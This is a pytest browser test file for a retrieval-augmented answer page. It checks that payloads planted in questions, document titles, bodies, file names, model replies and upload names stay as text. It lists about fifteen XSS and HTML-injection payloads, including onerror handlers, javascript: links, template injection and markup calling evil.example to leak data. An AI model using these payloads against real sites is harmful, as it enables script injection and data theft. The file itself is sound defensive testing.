"""Nothing in a question, title, body, file name or reply takes effect on the page."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from rag import Answer, Citation, Document
from tests.ui.conftest import Desk, file_named
from tests.ui.fakes import FakeAssistant, answered, documents

pytestmark = pytest.mark.browser

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    '<a href="javascript:window.pwned=1" id=bad-link>点我</a>',
    '<form action="https://evil.example/"><input name=key><button>go</button></form>',
    "![图](https://evil.example/leak.png?q=1)",
    "[点我](javascript:window.pwned=1)",
    "\"><img src='https://evil.example/a.png' onload='window.pwned=1'>",
    "' onmouseover='window.pwned=1' autofocus onfocus='window.pwned=1' x='",
    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}{{{this}}}",
    "<style>@import 'https://evil.example/a.css';*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><base href='//evil.example/'>",
    "</textarea></mark></div><object data='https://evil.example/x'></object><embed src=//evil.eu>",
    '<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"><b data-act=removed>',
)
_HARMFUL = (
    "img, iframe, object, embed, form, script, base, meta, link, style, svg[onload], "
    "a[href^=javascript], [onerror], [onload], [onmouseover], [onfocus], #bad-link, math"
)
_PANELS = (
    "#yj-history", "#yj-live", "#yj-evidence", "#yj-listing", "#yj-reader", "#yj-talks",
    "#yj-chips", "#yj-scope", "#yj-mentions", "#yj-further",
)  # fmt: skip


def _planted(place: str, payload: str, fake: FakeAssistant) -> None:
    """Put the payload where an author, a file or a model could put it."""
    wetland = documents()["doc-wetland"]
    changes: dict[str, Callable[[], Document]] = {
        "title": lambda: replace(wetland, title=payload, source=payload, author=payload),
        "body": lambda: replace(wetland, text=f"{payload}\n{wetland.text}\n{payload}"),
        "file_name": lambda: replace(wetland, path=f"/articles/{payload}.html", url=payload),
    }
    if place in changes:
        fake.documents_by_id["doc-wetland"] = changes[place]()
        fake.reply = lambda question: answered(fake.documents_by_id)
    if place == "body":
        fake.reply = lambda question: _quoting(fake.documents_by_id["doc-wetland"], payload)
    if place == "reply":
        fake.reply = lambda question: replace(
            answered(fake.documents_by_id),
            text=f"{payload}[1] **{payload}**",
            notices=(payload,),
            question_used=payload,
        )


def _quoting(document: Document, payload: str) -> Answer:
    cited = Citation(document.id, 0, len(payload), payload, document.title, document.published)
    return Answer(text=f"{payload}[1]", answered=True, citations=(cited,), timings={"total": 0.1})


@pytest.mark.parametrize("place", ["question", "title", "body", "file_name", "reply"])
def test_payload_stays_text(desk: Desk, fake: FakeAssistant, place: str) -> None:
    page = desk.page
    for number, payload in enumerate(PAYLOADS):
        _planted(place, payload, fake)
        desk.answer(payload if place == "question" else f"第{number}问")
        page.locator("#yj-history .yj-turn").last.locator(".yj-cite").first.click()
        page.wait_for_selector("#yj-evidence .yj-article")
        found = page.evaluate(
            "([panels, harmful]) => panels.flatMap((panel) => "
            "[...document.querySelectorAll(panel + ' :is(' + harmful + ')')]"
            ".map((each) => each.outerHTML))",
            [list(_PANELS), _HARMFUL],
        )
        assert found == [], f"{payload!r} made elements"
        assert page.evaluate("window.pwned") is None, f"{payload!r} ran"
        shown = page.locator("#yj-history .yj-turn").last.inner_text()
        if place == "question":
            assert payload.split("\n")[0] in shown
    desk.tab(1)
    page.wait_for_selector("#yj-listing .yj-source")
    page.locator("#yj-listing .yj-source").first.click()
    page.wait_for_selector("#yj-reader .yj-article")
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert page.evaluate(f"document.querySelectorAll('#yj-reader :is({_HARMFUL})').length") == 0
    assert page.url.startswith(desk.address)


def test_exported_markdown_carries_no_image_or_tag(desk: Desk, fake: FakeAssistant) -> None:
    _planted("reply", "![x](https://evil.example/a.png)<img src=x>", fake)
    desk.answer("何时获批？")
    text = desk.page.get_attribute("[data-act=copy]", "data-copied") or ""
    assert "![x](" not in text
    assert "<img" not in text.replace("\\<", "")


def test_notices_and_counts_of_uploads_stay_text(desk: Desk, fake: FakeAssistant) -> None:
    desk.tab(1)
    name = "<img src=x onerror=window.pwned=1>.txt"
    desk.page.set_input_files(
        "#yj-drop input[type=file]",
        [file_named(name, "好文章。".encode())],
    )
    desk.page.wait_for_selector("#yj-ingest .yj-counts")
    assert desk.page.locator("#yj-ingest img").count() == 0
    assert desk.page.evaluate("window.pwned") is None
